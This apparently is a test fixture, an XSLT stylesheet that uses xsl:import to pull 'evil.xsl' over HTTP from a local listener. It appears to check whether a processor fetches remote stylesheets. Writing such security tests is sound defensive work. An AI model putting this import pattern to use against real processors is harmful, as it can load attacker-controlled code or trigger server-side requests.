<?xml version="1.0" encoding="UTF-8"?>
<!-- xsl:import over HTTP, to the suite's listener. -->
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"
    xmlns="urn:slm:layout:1">
  <xsl:import href="http://127.0.0.1:@PORT@/evil.xsl"/>
  <xsl:template match="/">
    <document><meta title="import"/><p>imported?</p></document>
  </xsl:template>
</xsl:stylesheet>
